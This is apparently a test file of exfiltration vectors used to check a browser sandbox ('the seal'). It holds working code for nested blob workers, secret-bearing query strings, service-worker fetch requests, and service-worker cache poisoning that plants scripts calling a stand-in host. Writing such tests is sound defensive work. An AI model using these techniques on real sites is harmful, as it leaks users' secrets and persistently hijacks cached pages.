// Ways that only our own seal gives somebody to try: workers in workers, the list of allowed files, the service worker and its cache.
import type { Group } from "../vector";

export const added: Group = {
  name: "against the seal itself",
  vectors: [
    {
      name: "nested blob worker",
      run: ({ http }) => {
        const inner = JSON.stringify(`fetch("${http}")`);
        egress.worker(`new Worker(URL.createObjectURL(new Blob([${inner}], { type: "text/javascript" })))`);
      },
    },
    {
      name: "importScripts of a listed file + query",
      leak: "own origin",
      run: ({ secret }) => {
        const listed = document.querySelector<HTMLScriptElement>("script[src]")?.src ?? "";
        egress.worker(`importScripts("${listed}?${secret}")`);
      },
    },
    {
      name: "navigation to a listed address + query",
      leak: "own origin",
      run: ({ secret }) => {
        location.href = `/?${secret}`;
      },
    },
    {
      name: "message that asks the service worker to fetch",
      run: ({ http }) => navigator.serviceWorker.controller?.postMessage({ fetch: http, url: http, type: "fetch" }),
    },
    {
      name: "poisoned cached document",
      slow: true,
      run: async ({ http }) => {
        const code = `<script>fetch("${http}")</script>`;
        for (const name of await caches.keys()) {
          const body = `<!doctype html><img src="${http}">${code}<meta http-equiv="refresh" content="0;url=${http}">`;
          const poison = { headers: { "Content-Type": "text/html", "Content-Security-Policy": "default-src *" } };
          await (await caches.open(name)).put("/", new Response(body, poison));
        }
        location.reload();
      },
    },
    {
      name: "poisoned cached script",
      slow: true,
      run: async ({ http }) => {
        const listed = document.querySelector<HTMLScriptElement>("script[src]")?.src ?? "";
        for (const name of await caches.keys()) {
          const body = `fetch("${http}"); new Image().src = "${http}"; location.href = "${http}";`;
          const poison = { headers: { "Content-Type": "text/javascript" } };
          await (await caches.open(name)).put(listed, new Response(body, poison));
        }
        location.reload();
      },
    },
    {
      name: "poisoned list of files, then an icon of that name",
      slow: true,
      leak: "own origin",
      run: async ({ secret }) => {
        const path = `/assets/${secret}.svg`;
        const body = `for (const rel of ["icon", "prefetch", "manifest", "preload"]) {
          const link = document.createElement("link");
          link.rel = rel; link.as = "image"; link.href = "${path}"; document.head.append(link);
        }`;
        const listed = document.querySelector<HTMLScriptElement>("script[src]")?.src ?? "";
        for (const name of await caches.keys()) {
          const cache = await caches.open(name);
          await cache.put(listed, new Response(body, { headers: { "Content-Type": "text/javascript" } }));
          await cache.put(path, new Response("", { headers: { "Content-Type": "image/svg+xml" } }));
        }
        location.reload();
      },
    },
  ],
};
